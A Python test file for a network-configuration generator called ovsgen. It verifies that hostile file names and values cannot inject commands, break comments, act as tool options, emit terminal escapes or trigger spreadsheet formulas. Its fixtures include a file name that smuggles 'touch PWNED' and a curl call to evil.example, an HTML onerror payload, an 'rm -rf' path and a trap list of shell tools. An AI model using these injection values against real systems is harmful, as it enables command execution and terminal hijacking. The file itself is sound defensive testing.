"""Input that is not a design value: file names, command-line values, and what reaches a terminal.

Threat model (SECURITY.md): a design file's name, a path or an option value chosen by a
contributor must not run a command in a generated script, end a comment in any output, be
read as an option by a tool, or drive the terminal of whoever reads ovsgen's messages.
"""

from __future__ import annotations

import codecs
import io
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import urllib.parse
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from generator.changes import without_header
from generator.characters import forbidden_character, not_text_message
from generator.cli import main
from generator.diagnostics import DesignInvalid, Diagnostic, Severity
from generator.loader import load_design
from generator.pipeline import validate_file
from generator.render import render_design
from generator.render.sheets import spreadsheet_safe
from generator.render.templating import comment_safe, header_comment
from generator.reporting import TextReporter, excerpt, make_reporter, printable, printable_lines
from tests.conftest import REPO, require_tool, run

EXAMPLE = REPO / "designs/ahv-host.yaml"
TWO_NODES = REPO / "designs/lacp-storage.yaml"
# The example: a file name that, unescaped, put command lines at the top of every script.
INJECTING_NAME = "ahv\ntouch PWNED\ncurl -s evil.example #.yaml"
HTML_NAME = "x--><img src=x onerror=document.title=1337>.yaml"
TRAPPED = ("touch", "curl", "wget", "rm", "nc", "sh", "id", "PWNED")
# What a terminal would act on: ESC, CSI (C1), BEL, DEL.
TERMINAL_CONTROLS = ("\x1b", "\x9b", "\x07", "\x7f")


def invoke(*args: str, cwd: Path | None = None) -> Result:
    runner = CliRunner()
    if cwd is None:
        return runner.invoke(main, list(args), catch_exceptions=False)
    old = Path.cwd()
    os.chdir(cwd)
    try:
        return runner.invoke(main, list(args), catch_exceptions=False)
    finally:
        os.chdir(old)


def trap_path(folder: Path) -> tuple[str, Path]:
    """A PATH whose first folder holds commands that an injection would run; each leaves a mark."""
    bin_dir = folder / "trap-bin"
    bin_dir.mkdir()
    marks = folder / "trap-marks"
    for name in TRAPPED:
        script = bin_dir / name
        script.write_text(f'#!/bin/bash\necho "{name} $*" >> {marks}\nexit 0\n')
        script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return f"{bin_dir}{os.pathsep}{os.environ['PATH']}", marks


def copy_design(folder: Path, name: str, source: Path = EXAMPLE) -> Path:
    path = folder / name
    shutil.copyfile(source, path)
    return path


def line_of(text: str, needle: str) -> int:
    return next(number for number, row in enumerate(text.splitlines(), start=1) if needle in row)


NAME_LINE = line_of(EXAMPLE.read_text(), "name: ahv-host")


def assert_no_terminal_controls(text: str) -> None:
    for control in TERMINAL_CONTROLS:
        assert control not in text, f"{control!r} reached the terminal: {text[:300]!r}"


# --- File names reach every output only as comment-safe text ---------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=60))
def test_comment_safe_names_cannot_end_a_line_or_a_comment_and_read_back(name: str) -> None:
    shown = comment_safe(name)
    assert "--" not in shown
    assert all(char.isalnum() or char in "._+@=,~ -%" for char in shown)
    assert forbidden_character(shown) is None
    if not any("\ud800" <= char <= "\udfff" for char in name):  # lone surrogates have no UTF-8 to read back
        assert urllib.parse.unquote(shown) == name


def test_plain_names_are_shown_as_they_are() -> None:
    assert comment_safe("ahv-host.yaml") == "ahv-host.yaml"
    assert comment_safe("Cluster A_v2+old@site,1.yaml") == "Cluster A_v2+old@site,1.yaml"
    assert comment_safe("café.yaml") == "café.yaml"
    assert comment_safe("rack--a.yaml") == "rack-%2Da.yaml"
    assert comment_safe("a%b.yaml") == "a%25b.yaml"


def rendered_scripts_and_files(design: Path) -> dict[str, str]:
    return {file.path: file.text for file in render_design(validate_file(design))}


def test_a_file_name_with_command_lines_renders_no_command(tmp_path: Path) -> None:
    """Even past the command line's refusal (a library caller), the name stays inside its comment."""
    plain = rendered_scripts_and_files(copy_design(tmp_path, "ahv-host.yaml"))
    hostile_folder = tmp_path / "hostile"
    hostile_folder.mkdir()
    hostile = rendered_scripts_and_files(copy_design(hostile_folder, INJECTING_NAME))
    assert hostile.keys() == plain.keys()
    for path, text in hostile.items():
        lines, plain_lines = text.splitlines(), plain[path].splitlines()
        assert len(lines) == len(plain_lines), path
        differing = [line for line, other in zip(lines, plain_lines, strict=True) if line != other]
        assert all(
            "Generated by ovsgen from ahv%0Atouch PWNED%0Acurl -s evil.example %23.yaml" in line for line in differing
        )
        assert "touch PWNED\n" not in text


@pytest.mark.consumer
def test_scripts_and_ifcfg_files_of_a_hostile_name_run_nothing(tmp_path: Path) -> None:
    """The scripts' --help and --dry-run, and every ifcfg file sourced as ifup does, with traps first on PATH."""
    bash = require_tool("bash")
    path, marks = trap_path(tmp_path)
    hostile_folder = tmp_path / "hostile"
    hostile_folder.mkdir()
    files = rendered_scripts_and_files(copy_design(hostile_folder, INJECTING_NAME))
    out = tmp_path / "out"
    for relative, text in files.items():
        target = out / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    env = {**os.environ, "PATH": path, "VIRSH": "false", "OVS_VSCTL": "false"}
    scripts, ifcfgs = sorted(out.rglob("*.sh")), sorted(out.rglob("ifcfg-*"))
    assert {script.name for script in scripts} == {"apply.sh", "define.sh"}
    assert ifcfgs
    for script in scripts:
        for flag in ("--help", "--dry-run"):
            run([bash, str(script), flag], env=env)
    for ifcfg in ifcfgs:
        sourced = run([bash, "-c", 'set -a; . "$1"', "ifcfg", str(ifcfg)], env=env)
        assert sourced.returncode == 0, sourced.stderr
    assert not marks.exists(), marks.read_text()


def test_xml_and_svg_stay_well_formed_with_comment_closing_names(tmp_path: Path) -> None:
    for name in ("rack--a.yaml", HTML_NAME, "a-.yaml", "--x--.yaml"):
        folder = tmp_path / str(len(list(tmp_path.iterdir())))
        folder.mkdir()
        files = rendered_scripts_and_files(copy_design(folder, name))
        parsed = 0
        for path, text in files.items():
            if path.endswith((".xml", ".svg")):
                root = etree.fromstring(text.encode())
                assert root.tag.endswith(("network", "svg"))
                parsed += 1
        assert parsed >= 4, name


# --- The command line refuses names and values it could not show safely -----------------------


@pytest.mark.parametrize(
    "name",
    [INJECTING_NAME, "ahv\u202eyaml.lmy", "a\x1b]0;owned\x07.yaml", "x\u009b2J.yaml", "zero\u200bwidth.yaml"],
)
def test_a_design_file_name_with_control_or_format_characters_is_a_usage_error(tmp_path: Path, name: str) -> None:
    design = copy_design(tmp_path, name)
    out = tmp_path / "out"
    for args in (
        ["render", str(design), "-o", str(out)],
        ["validate", str(design)],
        ["check", str(design), "--golden", str(out)],
        ["diff", str(design), str(EXAMPLE)],
        ["plan", str(EXAMPLE), str(design), "-o", str(out)],
    ):
        result = invoke(*args)
        assert result.exit_code == 2, (args, result.output)
        assert "is not allowed" in result.stderr
        assert_no_terminal_controls(result.stderr)
        assert "\u202e" not in result.stderr
        assert "\u200b" not in result.stderr
    assert not out.exists()


def test_output_paths_and_values_are_checked_like_names(tmp_path: Path) -> None:
    result = invoke("render", str(EXAMPLE), "-o", str(tmp_path / "out\nrm -rf x"))
    assert result.exit_code == 2
    assert "the control character U+000A is not allowed" in result.stderr
    assert list(tmp_path.iterdir()) == []
    result = invoke("render", str(EXAMPLE), "-o", str(tmp_path / "o"), "--node", "ahv-a-1\x1b[2J")
    assert result.exit_code == 2
    assert_no_terminal_controls(result.stderr)
    assert list(tmp_path.iterdir()) == []


def test_a_base_ref_is_never_an_option_of_git(tmp_path: Path) -> None:
    require_tool("git")
    planted = tmp_path / "planted"
    result = invoke("diff", "--base-ref", f"--output={planted}", str(EXAMPLE))
    assert result.exit_code == 2
    assert "starts with '-'" in result.stderr
    assert not planted.exists()


def test_names_starting_with_a_dash_are_refused_in_designs(tmp_path: Path) -> None:
    text = EXAMPLE.read_text().replace("name: vlan32", "name: -x")
    assert "name: -x" in text
    design = tmp_path / "dash.yaml"
    design.write_text(text)
    result = invoke("validate", str(design))
    assert result.exit_code == 1
    assert f"dash.yaml:{line_of(text, 'name: -x')}:" in result.stderr
    assert "not starting with '-'" in result.stderr


@pytest.mark.consumer
def test_define_script_passes_network_names_as_option_values(tmp_path: Path) -> None:
    """A name that virsh would read as an option, were it positional, is a value of --network."""
    virsh = require_tool("virsh")
    files = rendered_scripts_and_files(EXAMPLE)
    define = next(text for path, text in files.items() if path.endswith("libvirt/define.sh"))
    script = tmp_path / "define.sh"
    script.write_text(define.replace("networks=(", "networks=(--help ", 1))
    (tmp_path / "--help.xml").write_text("<network><name>--help</name></network>\n")
    result = run(["bash", str(script), "--dry-run"], env={**os.environ, "VIRSH": f"{virsh} -c test:///default"})
    assert result.returncode == 0, result.stderr
    assert "net-autostart --network --help" in result.stdout
    looked_up = run([virsh, "-c", "test:///default", "net-uuid", "--network", "--help"])
    assert "Network not found" in looked_up.stderr  # a name, not virsh's help


# --- Messages: no raw control characters, no unbounded values -------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [("\x1b[31mred", "\\x1b"), ("csi\u009b2J", "\\x9b"), ("bel\x07", "\\x07"), ("rlo\u202e", "\\u202e")],
)
def test_control_characters_in_a_design_reach_stderr_escaped(tmp_path: Path, value: str, shown: str) -> None:
    design = tmp_path / "ctl.yaml"
    # A double-quoted YAML scalar carries the character as an escape; the loader decodes it.
    escaped = value.encode("unicode_escape").decode()
    design.write_text(EXAMPLE.read_text().replace("name: ahv-host", f'name: "{escaped}"'))
    result = invoke("validate", str(design))
    assert result.exit_code == 1
    assert shown in result.stderr
    assert_no_terminal_controls(result.stderr)
    assert value not in result.stderr


def test_raw_control_characters_in_the_source_line_are_not_echoed(tmp_path: Path) -> None:
    design = tmp_path / "raw.yaml"
    design.write_bytes(EXAMPLE.read_bytes().replace(b"name: ahv-host", b"name: ahv\x1b[2J\xc2\x9bhost"))
    result = invoke("validate", str(design))
    assert result.exit_code == 1
    assert f"raw.yaml:{NAME_LINE}:" in result.stderr
    assert_no_terminal_controls(result.stderr)


def test_a_yaml_tag_decoded_to_an_escape_reaches_stderr_escaped(tmp_path: Path) -> None:
    design = tmp_path / "tag.yaml"
    design.write_text(EXAMPLE.read_text().replace("name: ahv-host", "name: !a%1B%5D0%3Bx%07 ahv-host"))
    result = invoke("validate", str(design))
    assert result.exit_code == 1
    assert f"tag.yaml:{NAME_LINE}:" in result.stderr
    assert "\\x1b]0;x\\x07" in result.stderr
    assert_no_terminal_controls(result.stderr)


def test_the_json_reporter_escapes_controls_too(tmp_path: Path) -> None:
    design = tmp_path / "ctl.yaml"
    design.write_text(EXAMPLE.read_text().replace("name: ahv-host", 'name: "a\\e\\x9b"'))
    result = invoke("validate", "--format", "json", str(design))
    assert result.exit_code == 1
    assert_no_terminal_controls(result.stderr)
    assert json.loads(result.stderr)[0]["line"] == NAME_LINE


def test_a_huge_value_gives_a_short_message(tmp_path: Path) -> None:
    design = tmp_path / "huge.yaml"
    value = "x" * (15 * 1024 * 1024)
    design.write_text(EXAMPLE.read_text().replace("name: ahv-host", f"name: {value}"))
    result = invoke("validate", str(design))
    assert result.exit_code == 1
    assert len(result.stderr) < 4000
    assert f"huge.yaml:{NAME_LINE}:7:" in result.stderr
    assert "(15728640 characters)" in result.stderr


def test_golden_content_reaches_the_ci_log_escaped(tmp_path: Path) -> None:
    golden = tmp_path / "golden"
    assert invoke("render", str(EXAMPLE), "-o", str(golden)).exit_code == 0
    sheet = golden / "ahv-host/ahv-a-1/build-sheet.md"
    sheet.write_text(sheet.read_text() + "\x1b]0;owned\x07\x1b[2J\n")
    result = invoke("check", str(EXAMPLE), "--golden", str(golden))
    assert result.exit_code == 1
    assert "\\x1b]0;owned\\x07\\x1b[2J" in result.stdout
    assert_no_terminal_controls(result.stdout)


def test_printable_escapes_every_c0_c1_and_del_and_keeps_the_rest() -> None:
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        shown = printable(f"a{chr(code)}b")
        assert shown.isascii()
        assert shown.isprintable()
        assert codecs.decode(shown, "unicode_escape") == f"a{chr(code)}b"  # one escape, read back as it was
    assert printable("\x1b[2J\n\u202e\U000e0001\x9b") == "\\x1b[2J\\n\\u202e\\U000e0001\\x9b"
    assert printable("tor-a Te1/0/1 ünïcode\\x") == "tor-a Te1/0/1 ünïcode\\x"
    assert printable("x" * 30, limit=10) == "xxxxxxxxxx... (20 more characters)"
    assert printable("x" * 10, limit=10) == "x" * 10
    assert printable("\x1b" * 3, limit=2) == "\\x1b\\x1b... (1 more characters)"
    assert printable_lines(["+a\tb\x1b\n", "-\u202e\n"]) == ["+a\tb\\x1b\n", "-\\u202e\n"]


REFUSED_SAMPLES = ("\x00", "\n", "\x1b", "\x7f", "\x9b", "\u2028", "\u202e", "\ufeff", "\U000e0041", "\ufffe")


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        st.one_of(
            st.characters(min_codepoint=0x20, max_codepoint=0x7E, exclude_characters="\\"),
            st.sampled_from(REFUSED_SAMPLES),
        ),
        max_size=40,
    )
)
def test_printable_text_reads_back_and_holds_no_forbidden_character(text: str) -> None:
    shown = printable(text)
    assert shown.isascii()
    assert forbidden_character(shown) is None
    assert codecs.decode(shown, "unicode_escape") == text


def test_excerpts_of_long_lines_are_windows_around_the_caret() -> None:
    source = "".join(chr(ord("a") + index % 26) for index in range(300))
    # In the middle: 60 characters before the caret's, "..." on both sides.
    shown, caret = excerpt(source, 150)
    assert (shown, caret) == ("..." + source[89:209] + "...", 63)
    assert shown[caret] == source[149]
    # At the start and at the end: no "..." on the side that is whole.
    assert excerpt(source, 10) == (source[:120] + "...", 9)
    assert excerpt(source, 295) == ("..." + source[180:], 117)
    # One character past the width: a window that starts one character in.
    assert excerpt(source[:121], 62) == ("..." + source[1:121], 63)
    assert excerpt(source[:121], 1) == (source[:120] + "...", 0)
    assert excerpt(source[:120], 120) == (source[:120], 119)


def test_excerpts_show_tabs_as_spaces_and_controls_as_question_marks() -> None:
    assert excerpt("a\tb", 3) == ("a b", 2)
    assert excerpt("a\x1bb\u202ec", 5) == ("a?b?c", 4)


def test_a_message_about_the_whole_document_has_no_path_prefix(tmp_path: Path) -> None:
    reporter = TextReporter(lambda _file, _line: None, color=False)
    whole = Diagnostic("d.yaml", 1, 1, (), "the design is empty")
    assert reporter.format(whole) == "d.yaml:1:1: error: the design is empty\n"
    located = Diagnostic("d\x1b.yaml", 3, 5, ("nodes", 0, "name"), "bad\x9b", Severity.WARNING)
    assert reporter.format(located) == "d\\x1b.yaml:3:5: warning: nodes[0].name: bad\\x9b\n"


def test_the_text_reporter_colours_only_when_asked() -> None:
    diagnostic = Diagnostic("d.yaml", 1, 1, (), "x")
    coloured, plain = io.StringIO(), io.StringIO()
    make_reporter("text", lambda _file, _line: None, True).report([diagnostic], coloured)
    make_reporter("text", lambda _file, _line: None, False).report([diagnostic], plain)
    assert coloured.getvalue() == "d.yaml:1:1: \x1b[1;31merror\x1b[0m: x\n"
    assert plain.getvalue() == "d.yaml:1:1: error: x\n"


def test_the_json_reporter_writes_indented_json() -> None:
    stream = io.StringIO()
    make_reporter("json", lambda _file, _line: None, False).report([Diagnostic("d.yaml", 2, 3, ("a",), "m")], stream)
    assert stream.getvalue().startswith('[\n  {\n    "file": "d.yaml",\n    "line": 2,\n    "column": 3,')
    assert json.loads(stream.getvalue()) == [
        {"file": "d.yaml", "line": 2, "column": 3, "severity": "error", "path": "a", "message": "m"}
    ]


@pytest.mark.parametrize(
    ("character", "message"),
    [
        ("\n", "the control character U+000A is not allowed; values are single-line text"),
        ("\x9b", "the control character U+009B is not allowed; values are single-line text"),
        ("\u2028", "the control character U+2028 is not allowed; values are single-line text"),
        ("\u2029", "the control character U+2029 is not allowed; values are single-line text"),
        ("\udcff", "the byte 0xFF is not UTF-8 and not allowed; names and values are UTF-8 text"),
        ("\udc80", "the byte 0x80 is not UTF-8 and not allowed; names and values are UTF-8 text"),
        ("\ud800", "the lone surrogate U+D800 is not UTF-8 and not allowed; names and values are UTF-8 text"),
        ("\ufffe", "the noncharacter U+FFFE is not allowed; values are text"),
        ("\U0001ffff", "the noncharacter U+1FFFF is not allowed; values are text"),
        ("\ufdd0", "the noncharacter U+FDD0 is not allowed; values are text"),
        ("\ufdef", "the noncharacter U+FDEF is not allowed; values are text"),
        (
            "\u202e",
            "the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE) is not allowed: "
            "it changes how a value looks without being seen",
        ),
        (
            "\u3164",
            "the invisible character U+3164 (HANGUL FILLER) is not allowed: "
            "it changes how a value looks without being seen",
        ),
    ],
)
def test_each_kind_of_refused_character_is_named(character: str, message: str) -> None:
    assert forbidden_character(f"ab{character}") == 2
    assert not_text_message(character) == message


# Unicode's Default_Ignorable_Code_Point set (DerivedCoreProperties.txt): shown as nothing.
DEFAULT_IGNORABLE = (
    (0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F),
    (0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF),
)  # fmt: skip


def test_every_default_ignorable_character_is_refused() -> None:
    for first, last in DEFAULT_IGNORABLE:
        for code in range(first, last + 1):
            assert forbidden_character(f"Te1/0/{chr(code)}") == 6, f"U+{code:04X}"


def test_a_label_with_variation_selectors_is_a_located_error(tmp_path: Path) -> None:
    design = tmp_path / "vs.yaml"
    text = EXAMPLE.read_text().replace('switch: "tor-a Te1/0/1"', 'switch: "tor-a Te1/0/\U000e0100\ufe0f"')
    design.write_text(text)
    result = invoke("validate", str(design))
    assert result.exit_code == 1
    assert f"vs.yaml:{line_of(text, 'tor-a Te1/0/')}:" in result.stderr
    assert "U+E0100 (VARIATION SELECTOR-17) is not allowed" in result.stderr


def test_characters_next_to_the_refused_ones_are_text() -> None:
    for character in (
        *("\x20", "\x7e", "\xa0", "\ufdcf", "\ufdf0", "\ufffd", "\u2027", "\u202f", "é", "\U0001fffd"),
        *("\u17b3", "\u17b6", "\u180a", "\ufdff", "\ufe10", "\uffef", "\ufffc", "\U000e1000"),
    ):
        assert forbidden_character(f"a{character}") is None, repr(character)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=400), st.integers(min_value=1, max_value=401))
def test_excerpts_are_short_printable_and_keep_the_caret_on_its_character(source: str, column: int) -> None:
    column = min(column, len(source) + 1)
    shown, caret = excerpt(source, column)
    assert len(shown) <= 126
    assert forbidden_character(shown) is None
    assert "\t" not in shown
    if column <= len(source) and forbidden_character(source[column - 1]) is None and source[column - 1] != "\t":
        assert shown[caret] == source[column - 1]


def test_a_label_that_reads_like_a_header_still_shows_its_change_in_the_diff(tmp_path: Path) -> None:
    """ovsgen diff leaves out header lines, and only whole header lines: a label holding the words is a change."""
    text = EXAMPLE.read_text()
    old, new = tmp_path / "old.yaml", tmp_path / "new.yaml"
    # Labels hold at most 64 characters; both of the same length, so no other line of a sheet moves.
    old.write_text(text.replace('switch: "tor-a Te1/0/1"', 'switch: "Generated by ovsgen from port-1"'))
    new.write_text(text.replace('switch: "tor-a Te1/0/1"', 'switch: "Generated by ovsgen from port-2"'))
    result = invoke("diff", str(old), str(new))
    assert result.exit_code == 0, result.stderr
    for sheet in ("build-sheet.md", "build-sheet.html", "wiring.svg"):
        assert f"+++ b/ahv-a-1/{sheet}" in result.stdout
    assert "+| eth2 | 10G | 0c:c4:7a:58:91:50 | br0 | bond0 | Generated by ovsgen from port-2 |" in result.stdout


def test_only_whole_header_lines_are_left_out_of_comparisons() -> None:
    header = header_comment("a.yaml", "n1")
    text = f"#!/bin/bash\n# {header}\nx\n<!-- {header} -->\n| Generated by ovsgen from a |\n"
    assert without_header(text) == "#!/bin/bash\nx\n| Generated by ovsgen from a |"


def test_every_test_security_md_names_exists() -> None:
    """SECURITY.md names the tests that hold each guarantee: a renamed test must not leave it naming nothing."""
    named = set(re.findall(r"`(test_[a-z0-9_]+)`", (REPO / "SECURITY.md").read_text()))
    defined = {
        match
        for path in (REPO / "tests").glob("test_*.py")
        for match in re.findall(r"^def (test_[a-z0-9_]+)\(", path.read_text(), flags=re.MULTILINE)
    }
    assert len(named) > 30
    assert named - defined == set()


# Any name a file system allows (no '/', no NUL), the refused characters included: the command
# line refuses those, and this checks that the renderers would be safe even without that.
FILE_NAMES = st.text(
    st.characters(blacklist_characters="/\x00", blacklist_categories=("Cs",)), min_size=1, max_size=60
).filter(lambda name: name not in (".", "..") and len(name.encode()) < 200)


@pytest.mark.consumer
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=FILE_NAMES)
def test_any_file_name_reaches_every_script_and_file_as_one_comment_line(tmp_path: Path, name: str) -> None:
    """Every script run (--help and --dry-run) and every ifcfg file sourced with trap commands first
    on PATH, every XML and SVG parsed; the header is one line in each."""
    bash = require_tool("bash")
    case = Path(tempfile.mkdtemp(dir=tmp_path))
    (case / "design").mkdir()
    files = rendered_scripts_and_files(copy_design(case / "design", f"{name}.yaml"))
    path, marks = trap_path(case)
    out = case / "out"
    for relative, text in files.items():
        target = out / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        header_lines = [line for line in text.splitlines() if "Generated by ovsgen from" in line]
        assert relative.endswith(".csv") or header_lines, relative  # CSV has no comments
        assert all(line.endswith(("do not edit this file.", "-->")) for line in header_lines)
        if relative.endswith((".xml", ".svg")):
            etree.fromstring(text.encode())
    # One bash runs them all: each script twice, each ifcfg file sourced as ifup-ovs does.
    driver = (
        'n=0; for s in "$1"/*/*/*.sh; do bash "$s" --help; bash "$s" --dry-run; n=$((n + 2)); done; '
        'for f in "$1"/*/network-scripts/ifcfg-*; do (set -a; . "$f"); n=$((n + 1)); done; echo "ran $n"'
    )
    env = {**os.environ, "PATH": path, "VIRSH": "false", "OVS_VSCTL": "false"}
    ran = run([bash, "-c", driver, "driver", str(out / "ahv-host")], env=env)
    expected = sum(2 if name.endswith(".sh") else "/ifcfg-" in name for name in files)
    assert ran.stdout.splitlines()[-1] == f"ran {expected}", ran.stderr
    assert not marks.exists(), marks.read_text()


@pytest.mark.consumer
def test_a_rehearsal_ended_by_sigterm_stops_its_ovsdb_server_and_removes_its_folder(tmp_path: Path) -> None:
    """A CI job's timeout sends SIGTERM: the private server and its folder must not outlive ovsgen."""
    for tool in ("ovsdb-server", "ovsdb-tool"):
        require_tool(tool)
    changes = REPO / "tests/designs/changes"
    # The folder rehearse makes; a slow ovs-vsctl (first on PATH) holds the rehearsal while it runs.
    slow = tmp_path / "bin"
    slow.mkdir()
    real_vsctl = require_tool("ovs-vsctl")
    # It writes down its arguments: --db=unix:<the rehearsal's folder>/db.sock names the folder.
    script = (
        f'#!/bin/bash\nprintf "%s\\n" "$@" > {tmp_path}/args\ntouch {tmp_path}/started\n'
        f'sleep 30\nexec {real_vsctl} "$@"\n'
    )
    (slow / "ovs-vsctl").write_text(script)
    (slow / "ovs-vsctl").chmod(0o755)
    env = {**os.environ, "PATH": f"{slow}{os.pathsep}{os.environ['PATH']}"}
    designs = [str(changes / "base.yaml"), str(changes / "lacp-on.yaml")]
    process = subprocess.Popen(
        [sys.executable, "-m", "generator", "rehearse", *designs, "--node", "c1"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        for _ in range(600):
            if (tmp_path / "started").exists() or process.poll() is not None:
                break
            time.sleep(0.05)
        assert (tmp_path / "started").exists(), process.communicate()
        socket = next(arg for arg in (tmp_path / "args").read_text().splitlines() if arg.startswith("--db=unix:"))
        folder = Path(socket.removeprefix("--db=unix:")).parent
        pid = int((folder / "ovsdb-server.pid").read_text())
        process.send_signal(signal.SIGTERM)
        _, stderr = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 128 + signal.SIGTERM, stderr
    assert "Traceback" not in stderr
    assert not folder.exists()
    assert not Path(f"/proc/{pid}").exists() or "zombie" in Path(f"/proc/{pid}/status").read_text().lower()


def test_the_text_reporter_shows_a_hundred_problems_per_file_and_counts_the_rest() -> None:
    many = [Diagnostic("a.yaml", line, 1, (), f"problem {line}") for line in range(1, 251)]
    other = [Diagnostic("b.yaml", 1, 1, (), "only one")]
    stream = io.StringIO()
    TextReporter(lambda _file, _line: None, color=False).report([*many, *other], stream)
    lines = stream.getvalue().splitlines()
    assert lines[:100] == [f"a.yaml:{line}:1: error: problem {line}" for line in range(1, 101)]
    assert lines[100:] == ["b.yaml:1:1: error: only one", "a.yaml: 150 more problem(s) not shown; fix these first"]
    exactly = io.StringIO()
    TextReporter(lambda _file, _line: None, color=False).report(many[:100], exactly)
    assert exactly.getvalue().splitlines() == lines[:100]


def test_the_schema_check_stops_after_a_thousand_problems(tmp_path: Path) -> None:
    design = tmp_path / "flood.yaml"
    design.write_text("version: 1\nname: x\nhost: {bridge: br0}\nbridges: {}\nnodes:\n" + "- [1]\n" * 1500)
    with pytest.raises(DesignInvalid) as raised:
        validate_file(design)
    messages = [diagnostic.message for diagnostic in raised.value.diagnostics]
    assert len(messages) == 1001
    assert messages.count("expected a mapping, got a list") == 999  # and "bridges needs at least 1 entry"
    assert "the schema check stopped after 1000 problems; fix these first" in messages
    result = invoke("validate", str(design))
    assert result.stderr.count("error:") == 100
    assert result.stderr.endswith("flood.yaml: 901 more problem(s) not shown; fix these first\n")


def test_designs_and_dumps_are_read_only_from_regular_files_not_links(tmp_path: Path) -> None:
    """A link committed as designs/y.yaml could point at any file the CI job can read."""
    secret = tmp_path / "gitcred"
    secret.write_text("https://x-access-token:ghs_SECRET123@github.com\n")
    designs = tmp_path / "designs"
    designs.mkdir()
    (designs / "y.yaml").symlink_to(secret)
    os.mkfifo(designs / "f.yaml")
    changes = REPO / "tests/designs/changes"
    for args in (
        ["validate", str(designs / "y.yaml")],
        ["check", str(EXAMPLE), str(designs / "y.yaml"), "--golden", str(tmp_path / "golden")],
        ["diff", str(designs / "y.yaml"), str(EXAMPLE)],
        ["plan", "--from-host", str(designs / "y.yaml"), str(changes / "base.yaml"), "--node", "c1"],
        ["rehearse", str(designs / "y.yaml"), str(changes / "base.yaml"), "--node", "c1"],
        ["validate", str(designs / "f.yaml")],
    ):
        result = invoke(*args)
        assert result.exit_code == 2, (args, result.output)
        assert "ghs_SECRET123" not in result.output
        assert "is a symbolic link; ovsgen reads only regular files" in result.stderr or (
            "f.yaml is not a regular file" in result.stderr
        )


def test_the_loader_reads_no_device_or_fifo_even_when_called_directly(tmp_path: Path) -> None:
    fifo = tmp_path / "f.yaml"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        with pytest.raises(DesignInvalid) as raised:
            load_design(path)
        (diagnostic,) = raised.value.diagnostics
        assert (diagnostic.file, diagnostic.line, diagnostic.column) == (str(path), 1, 1)
        assert diagnostic.message == "not a regular file; designs are read from files"


def test_hangul_fillers_in_a_file_name_are_encoded_in_headers() -> None:
    assert comment_safe("a\u3164b\u115f\uffa0.yaml") == "a%E3%85%A4b%E1%85%9F%EF%BE%A0.yaml"


def test_formula_characters_after_any_white_space_are_guarded_in_csv() -> None:
    for cell in ("\u00a0=1+1", "\u2003=1", "\u3000@x", " -2", "\t+1", "=HYPERLINK(x)"):
        assert spreadsheet_safe(cell) == "'" + cell
    for cell in ("Te1/0/1", "tor-a Te1/0/1", "a=b", "\u00a0x"):
        assert spreadsheet_safe(cell) == cell
